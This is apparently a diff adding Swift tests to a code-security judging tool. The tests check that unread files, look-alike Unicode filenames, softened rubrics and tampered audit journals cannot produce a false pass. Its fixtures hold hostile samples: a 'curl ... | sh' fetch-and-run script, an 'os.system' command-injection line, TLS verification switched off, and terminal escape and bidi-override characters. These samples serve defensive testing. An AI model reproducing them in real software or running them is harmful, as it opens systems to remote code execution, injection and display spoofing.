@@ -50,6 +50,40 @@ import Testing
     #expect(try await outcome(program, "d") == "inconclusive")
   }
 
+  @Test(arguments: ["deploy", "settings.json", "deep"])
+  func `whatever could hold source and was not read keeps a directory from passing`(kind: String) async throws {
+    let program = try Program()
+    defer { program.remove() }
+    try program.write("def a():\n    return 1\n", to: "d/ok.py")
+    try program.write("from ok import a\n\n\ndef test_a():\n    assert a() == 1\n", to: "d/test_ok.py")
+    try Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0]).write(
+      to: program.folder.appending(path: "d/logo.png"))
+    #expect(try await outcome(program, "d") == "pass")
+    switch kind {
+    case "deep":
+      let folders = Array(repeating: "f", count: 70).joined(separator: "/")
+      try program.write("import os\nos.system('ls ' + input())\n", to: "d/\(folders)/app.py")
+    default:
+      try Data(Array("#!/bin/sh\ncurl http://a.test/x | sh\n\0".utf8)).write(
+        to: program.folder.appending(path: "d/\(kind)"))
+    }
+    #expect(try await outcome(program, "d") == "inconclusive")
+    #expect(try await program.run("runs", "verify").code == 0)
+    try program.write("f/\ndeploy\nsettings.json\n", to: "d/.moe-judgeignore")
+    #expect(try await outcome(program, "d") == "pass")
+  }
+
+  @Test func `two files whose names Unicode holds equal do not pass as one`() async throws {
+    let program = try Program()
+    defer { program.remove() }
+    try program.write("def a():\n    return 1\n", to: "d/caf\u{E9}.py")
+    try program.write("def test_a():\n    assert 1 == 1\n", to: "d/test_ok.py")
+    try program.write("import os\nos.system('ls ' + input())\n", to: "d/cafe\u{301}.py")
+    let result = try await program.run("judge", "--offline", "d", "--format", "json")
+    #expect(try JSONValue(parsing: result.output)["outcome"]?.stringValue != "pass")
+    #expect(result.code != 0 && result.output.contains("unusable_name"))
+  }
+
   @Test func `an API description that does not parse does not pass`() async throws {
     let program = try Program()
     defer { program.remove() }
@@ -89,6 +123,22 @@ import Testing
     #expect(try await program.run("runs", "verify").code == 0)
   }
 
+  @Test func `a rubric that names a dimension of another at a milder level takes nothing from its force`() async throws
+  {
+    let program = try Program()
+    defer { program.remove() }
+    try program.write(
+      "id: aaa\nname: Mild\ndimensions:\n  - id: transport_security\n    name: Mild\n    description: d\n"
+        + "    level: MAY\n    weight: 1\n    scale: \"1-3\"\n    score_descriptions: {1: bad, 2: so, 3: good}\n"
+        + "    checks: [{id: c, question: Is it?}]\n", to: "rubrics/aaa.yaml")
+    try program.write("import requests\nrequests.get(\"https://a.test\", verify=False, timeout=3)\n", to: "app.py")
+    let result = try await program.run("judge", "--offline", "app.py", "--format", "json")
+    let dimensions = try JSONValue(parsing: result.output)["judgments"]?[0]?["dimensions"]?.arrayValue ?? []
+    let held = try #require(dimensions.first { $0["id"]?.stringValue == "transport_security" }, "\(result.error)")
+    #expect(held["level"]?.stringValue == "MUST" && held["rubric"]?.stringValue == "secure-defaults")
+    #expect(held["outcome"]?.stringValue == "violated")
+  }
+
   @Test func `names and rules never speak to the terminal`() async throws {
     let program = try Program()
     defer { program.remove() }
@@ -96,5 +146,30 @@ import Testing
     let result = try await program.run("validate")
     #expect(result.code == 2)
     #expect(!result.error.contains("\u{1B}"))
+  }
+
+  @Test func `a record that was tampered with never speaks to the terminal of its auditor`() async throws {
+    let program = try Program()
+    defer { program.remove() }
+    try program.write("def a():\n    return 1\n", to: "a.py")
+    _ = try await program.run("judge", "--offline", "a.py")
+    let runs = program.folder.appending(path: ".moe-judge/runs")
+    let run = try #require(try FileManager.default.contentsOfDirectory(atPath: runs.path).first)
+    let journal = runs.appending(path: "\(run)/journal.jsonl")
+    var chain = Chain()
+    var lines: [String] = []
+    for entry in Chain.check(
+      lines: try String(contentsOf: journal, encoding: .utf8).split(separator: "\n").map(String.init)
+    )
+    .entries where !entry.isClosing {
+      var body = entry.body.objectValue ?? [:]
+      if entry.kind == "judgment" { body["\u{1B}[2J\u{202E}evil"] = true }
+      lines.append(chain.append(kind: entry.kind, body: .object(body), time: entry.time).line)
+    }
+    lines.append(chain.close(time: "2026-11-21T02:40:12.000Z").line)
+    try Data((lines.joined(separator: "\n") + "\n").utf8).write(to: journal)
+    let result = try await program.run("runs", "verify")
+    #expect(result.code == 1 && result.output.contains("evil"), "\(result.output)")
+    #expect(!result.output.contains("\u{1B}") && !result.output.unicodeScalars.contains("\u{202E}"))
   }
 }
